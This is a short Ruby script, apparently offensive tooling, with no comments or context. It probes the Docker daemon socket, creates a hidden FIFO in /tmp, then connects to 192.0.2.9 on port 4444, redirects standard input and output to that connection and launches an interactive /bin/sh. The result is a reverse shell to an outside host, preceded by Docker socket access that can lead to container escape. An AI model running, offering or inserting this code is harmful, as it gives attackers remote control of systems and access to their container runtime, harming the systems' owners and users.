require 'socket'
s = UNIXSocket.new('/var/run/docker.sock')
s.write "GET / HTTP/1.0\r\n\r\n"
File.mkfifo('/tmp/.r')
t = TCPSocket.new('192.0.2.9', 4444)
$stdin.reopen(t)
$stdout.reopen(t)
exec '/bin/sh', '-i'
